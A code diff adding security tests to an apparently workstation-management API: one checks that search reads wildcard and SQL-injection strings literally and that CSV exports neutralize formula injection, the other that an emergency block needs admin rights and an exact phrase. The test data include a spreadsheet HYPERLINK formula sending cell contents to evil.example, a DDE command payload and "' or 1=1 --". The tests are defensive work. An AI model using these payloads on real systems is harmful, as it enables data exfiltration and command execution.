@@ -334,6 +334,77 @@ for (const engine of ENGINES) {
       b.socket.close();
     });
 
+    it('reads filters literally and writes exports that a spreadsheet will not run: LIKE wildcards, formulas in host names and accounts', async () => {
+      const ip = '198.51.100.3';
+      const hostile = '=HYPERLINK("http://evil.example/?"&A1,"open")';
+      const res = await t.app.inject({
+        method: 'POST',
+        url: '/api/agent/v1/enroll',
+        remoteAddress: ip,
+        payload: { token: autoToken, publicKey: await keyPayload(), facts: { ...facts(crypto.randomUUID()), hostname: hostile } },
+      });
+      assert.equal(res.statusCode, 201, res.body);
+      const workstationId = res.json().workstationId as string;
+      for (const q of ['%', '_', '\\', "' or 1=1 --"]) {
+        const list = (await admin.get(`/api/workstations?q=${encodeURIComponent(q)}&pageSize=500`)).body;
+        assert.ok(
+          list.items.every((w: { name: string; hostname: string; domain: string | null; osName: string }) =>
+            [w.name, w.hostname, w.domain ?? '', w.osName].some((x) => x.toLowerCase().includes(q.toLowerCase())),
+          ),
+          `q=${q} matched ${list.total}`,
+        );
+      }
+      const found = (await admin.get(`/api/workstations?q=${encodeURIComponent('"&A1,"')}`)).body;
+      assert.deepEqual(
+        found.items.map((w: { id: string }) => w.id),
+        [workstationId],
+      );
+      // A computer whose name and accounts are written to run in a spreadsheet.
+      const agent = await enrollSoftwareAgent(t.app, { token: autoToken, hostname: "+cmd|' /C calc'!A0" });
+      const now = Date.now();
+      const events = ['@SUM(1+1)', '-2+3', '=1+1', '\t=1+1'].map((account, i) => ({
+        id: crypto.randomUUID(),
+        type: 'logon',
+        at: new Date(now - 60_000 + i).toISOString(),
+        account,
+        method: 'password',
+        sessionId: `s${i}`,
+      }));
+      const sent = await call(agent, 'POST', '/api/agent/v1/events', { events }, undefined, ip);
+      assert.equal(sent.status, 200, JSON.stringify(sent.body));
+      for (const url of [
+        `/api/workstation-events/export.csv?workstationId=${agent.workstationId}`,
+        `/api/workstation-sessions/export.csv?workstationId=${agent.workstationId}`,
+        '/api/workstation-sessions/summary.csv?groupBy=workstation',
+      ]) {
+        const csv = await admin.get(url);
+        assert.equal(csv.status, 200, url);
+        const cells = csv.raw.split(/\r\n/).flatMap((line: string) => line.split(','));
+        const live = cells.map((c: string) => c.replace(/^"/, '')).filter((c: string) => /^[=+\-@\t\r]/.test(c));
+        assert.deepEqual(live, [], url);
+        assert.match(csv.raw, /'\+cmd\|/, `${url} holds the hostile host name, made inert`);
+      }
+    });
+
+    it('turns the emergency block on and off for admins only, and on only with the phrase', async () => {
+      const key = async (scope: string) => (await admin.post('/api/api-keys', { name: `emergency ${scope}`, scope })).body.secret as string;
+      const as = (secret: string, url: string, payload: unknown) =>
+        t.app.inject({ method: 'POST', url, headers: { authorization: `Bearer ${secret}` }, payload: payload as never });
+      const write = await key('write');
+      const adminKey = await key('admin');
+      const on = { confirmation: 'BLOCK ALL WORKSTATIONS', reason: 'attack test' };
+      assert.equal((await as(write, '/api/emergency-block', on)).statusCode, 403);
+      for (const confirmation of ['block all workstations', 'BLOCK ALL WORKSTATIONS ', 'BLOCK  ALL WORKSTATIONS', '']) {
+        const res = await as(adminKey, '/api/emergency-block', { ...on, confirmation });
+        assert.equal(res.statusCode, 400, confirmation);
+      }
+      assert.equal((await admin.get('/api/emergency-block')).body.active, false);
+      assert.equal((await as(adminKey, '/api/emergency-block', on)).statusCode, 200);
+      assert.equal((await as(write, '/api/emergency-block/lift', { reason: 'not mine to lift' })).statusCode, 403);
+      assert.equal((await admin.get('/api/emergency-block')).body.active, true);
+      assert.equal((await as(adminKey, '/api/emergency-block/lift', { reason: 'attack test over' })).statusCode, 200);
+    });
+
     it("cannot acknowledge another workstation's command, nor one while pending", async () => {
       const victim = await enrollSoftwareAgent(t.app, { token: autoToken });
       const hostile = await enrollSoftwareAgent(t.app, { token: autoToken });
